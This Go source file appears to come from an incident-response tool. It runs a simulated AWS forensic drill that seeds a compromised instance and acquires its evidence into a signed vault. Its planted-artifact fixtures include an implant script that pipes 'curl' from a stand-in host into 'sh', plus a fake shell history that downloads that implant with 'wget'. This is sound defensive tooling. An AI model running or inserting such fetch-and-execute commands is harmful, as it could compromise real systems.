// Package drill rehearses a whole response against the simulated AWS
// account: it starts the simulator in process, seeds a compromised instance
// in a member account and the keys of a forensics account, and runs
// respond's stages into a vault, exactly as a real response would run.
package drill

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/rs/zerolog"

	"github.com/impound-ir/impound/custody"
	"github.com/impound-ir/impound/internal/awsconf"
	"github.com/impound-ir/impound/internal/awssim"
	"github.com/impound-ir/impound/respond"
	"github.com/impound-ir/impound/vault"
)

// Options configure a drill. Start from NewOptions.
type Options struct {
	// Dir holds the drill's files: the signing key, the vault (unless Store
	// is given), the rendered report.
	Dir string
	// Store is the vault; nil means a local vault in Dir/vault.
	Store vault.Store
	// Operator is recorded as the responder.
	Operator string
	// Respond are the case's options; the drill fills in the case, the
	// instance, the Region and the keys.
	Respond respond.Options
	// Filesystem, when true and mkfs.ext4 is on PATH, puts a real ext4
	// filesystem with known files on the root volume.
	Filesystem bool
}

// NewOptions returns the defaults.
func NewOptions() Options {
	o := respond.NewOptions()
	o.Hashes = []string{"sha256", "md5"}
	o.SnapshotPollInterval = 20 * time.Millisecond
	return Options{Dir: "impound-drill", Operator: "drill", Respond: o, Filesystem: true}
}

// Result is what a drill did and where to look.
type Result struct {
	CaseID      string
	InstanceID  string
	VaultURI    string
	KeyFile     string // the Ed25519 signing key
	VerifierKey string // its public verifier key
	Summary     *respond.Summary
	// FilesystemFile is a file known to be on the root volume's ext4
	// filesystem ("" when no filesystem was made).
	FilesystemFile string
}

// Accounts of the drill: the responder's own (security) account assumes
// roles in the member and the forensics accounts, as in a real deployment.
const (
	responderAccount = "333333333333"
	memberAccount    = "111111111111"
	forensicsAccount = "222222222222"
)

// KnownFile is written into the drill's filesystem, for examiners to find.
const KnownFile = "/var/tmp/.x/implant.sh"

// KnownFileContent is its content.
const KnownFileContent = "#!/bin/sh\n# impound drill: a planted file to find in the acquired image\ncurl -s http://198.51.100.7/c2 | sh\n"

// Run runs a drill.
func Run(ctx context.Context, o Options) (*Result, error) {
	log := zerolog.Ctx(ctx)
	if err := os.MkdirAll(o.Dir, 0o755); err != nil {
		return nil, fmt.Errorf("drill directory: %w", err)
	}
	sim := awssim.New(awssim.Options{})
	srv, err := awssim.Listen(ctx, "127.0.0.1:0", sim)
	if err != nil {
		return nil, err
	}
	defer srv.Close()

	demo := awssim.DemoOptions{MemberAccountID: memberAccount, ForensicsAccountID: forensicsAccount}
	res := &Result{}
	if o.Filesystem {
		img, err := makeFilesystem(ctx, o.Dir)
		switch {
		case errors.Is(err, exec.ErrNotFound):
			log.Warn().Msg("mkfs.ext4 not found: the root volume holds generated data instead of a filesystem (install e2fsprogs)")
		case err != nil:
			return nil, err
		default:
			defer os.Remove(img)
			demo.RootImage = img
			res.FilesystemFile = KnownFile
		}
	}
	demo.RootGiB, demo.DataGiB = 1, 1
	d, err := awssim.SeedDemo(sim, demo)
	if err != nil {
		return nil, fmt.Errorf("seed the simulated accounts: %w", err)
	}
	res.InstanceID = d.InstanceID

	// The responder's credentials, and roles assumed from them.
	responder := sim.AddAccount(responderAccount).Credentials()
	base := aws.Config{Region: sim.Region(), BaseEndpoint: aws.String(srv.URL()),
		Credentials: credentials.NewStaticCredentialsProvider(responder.AccessKeyID, responder.SecretAccessKey, "")}

	ro := o.Respond
	if ro.CaseID == "" {
		ro.CaseID = respond.NewCaseID(time.Now())
	}
	res.CaseID = ro.CaseID
	ro.InstanceID, ro.Region, ro.Operator = d.InstanceID, sim.Region(), o.Operator
	ro.ForensicsKMSKey, ro.MemberKMSKey = d.EvidenceKeyARN, d.TransferKeyARN
	ro.Finding = d.Finding
	if ro.Trigger == "" {
		ro.Trigger = "drill"
	}
	acc := respond.Accounts{
		MemberID:    memberAccount,
		Member:      awsconf.AssumeRole(base, awsconf.Role{ARN: d.Member.RoleARN("impound-responder"), Operator: o.Operator, CaseID: ro.CaseID}),
		ForensicsID: forensicsAccount,
		Forensics:   awsconf.AssumeRole(base, awsconf.Role{ARN: d.Forensics.RoleARN("impound-forensics"), Operator: o.Operator, CaseID: ro.CaseID}),
	}
	if acc.MemberCaller, err = awsconf.CallerARN(ctx, acc.Member); err != nil {
		return nil, err
	}
	if acc.ForensicsCaller, err = awsconf.CallerARN(ctx, acc.Forensics); err != nil {
		return nil, err
	}

	res.KeyFile = filepath.Join(o.Dir, "keys", "drill.key")
	if _, err := os.Stat(res.KeyFile); errors.Is(err, os.ErrNotExist) {
		if err := os.MkdirAll(filepath.Dir(res.KeyFile), 0o700); err != nil {
			return nil, err
		}
		if _, err := custody.WriteKeyFiles(res.KeyFile, "impound-drill"); err != nil {
			return nil, fmt.Errorf("make the drill's signing key: %w", err)
		}
	}
	signer, err := custody.LoadKeyFile(res.KeyFile)
	if err != nil {
		return nil, err
	}
	res.VerifierKey = signer.VerifierKey()

	store := o.Store
	if store == nil {
		dir, err := filepath.Abs(filepath.Join(o.Dir, "vault"))
		if err != nil {
			return nil, err
		}
		if store, err = vault.Open(ctx, dir, vault.NewOptions()); err != nil {
			return nil, err
		}
	}
	res.VaultURI = store.URI()
	c, err := respond.Open(ctx, acc, store, signer, ro)
	if err != nil {
		return nil, err
	}
	res.Summary, err = respond.Run(ctx, c, c.Stages())
	return res, err
}

// makeFilesystem builds a 64 MiB ext4 image holding KnownFile.
func makeFilesystem(ctx context.Context, dir string) (string, error) {
	mkfs, err := exec.LookPath("mkfs.ext4")
	if err != nil {
		return "", err
	}
	root, err := os.MkdirTemp(dir, "fsroot-")
	if err != nil {
		return "", err
	}
	defer os.RemoveAll(root)
	files := map[string]string{
		KnownFile:                    KnownFileContent,
		"/etc/hostname":              "web-1\n",
		"/var/log/auth.log":          "Nov 21 02:14:07 web-1 sshd[812]: Accepted publickey for ubuntu from 203.0.113.9 port 51022\n",
		"/home/ubuntu/.bash_history": "wget http://198.51.100.7/x -O /var/tmp/.x/implant.sh\nchmod +x /var/tmp/.x/implant.sh\n",
	}
	for name, content := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return "", err
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			return "", err
		}
	}
	img := filepath.Join(dir, "root-fs.img")
	cmd := exec.CommandContext(ctx, mkfs, "-q", "-F", "-t", "ext4", "-d", root, img, "64M")
	if out, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("mkfs.ext4: %v: %s", err, out)
	}
	return img, nil
}
